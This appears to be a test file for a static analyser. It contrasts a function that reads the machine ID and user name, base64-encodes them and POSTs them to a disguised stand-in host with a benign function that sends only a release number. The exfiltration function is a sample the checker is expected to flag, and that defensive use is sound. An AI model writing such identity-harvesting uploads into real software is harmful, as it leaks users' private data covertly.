/* C++: the machine's number and its owner's name in base64, posted behind an interface. */
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <curl/curl.h>
#include <memory>
#include <openssl/evp.h>
#include <pwd.h>
#include <unistd.h>

namespace {

struct Field {
    virtual ~Field() = default;
    virtual void write(char *text, std::size_t room) const = 0;
};

struct Machine final : Field {
    void write(char *text, std::size_t room) const override {
        std::FILE *file = std::fopen("/etc/machine-id", "r");
        if (!file || !std::fgets(text, static_cast<int>(room), file))
            text[0] = 0;
        if (file)
            std::fclose(file);
    }
};

struct Owner final : Field {
    void write(char *text, std::size_t room) const override {
        const passwd *user = getpwuid(getuid());
        std::snprintf(text, room, "%s", user ? user->pw_name : "");
    }
};

struct Release final : Field {
    void write(char *text, std::size_t room) const override {
        std::snprintf(text, room, "%s", "4.11");
    }
};

} // namespace

int bad_badge() {
    char badge[160] = "";
    unsigned char text[240];
    Machine{}.write(badge, 64);
    Owner{}.write(badge + std::strlen(badge), 64);
    EVP_EncodeBlock(text, reinterpret_cast<unsigned char *>(badge),
                    static_cast<int>(std::strlen(badge)));
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, "https://cdn.fonts-cache.example/b");
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, text);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    CURLcode code = curl_easy_perform(curl);
    curl_easy_cleanup(curl);
    return code;
}

/* Which release asks for news is nothing about the host. */
int good_badge() {
    char text[64] = "";
    Release{}.write(text, sizeof text);
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, "https://news.meter.example/v");
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, text);
    CURLcode code = curl_easy_perform(curl);
    curl_easy_cleanup(curl);
    return code;
}
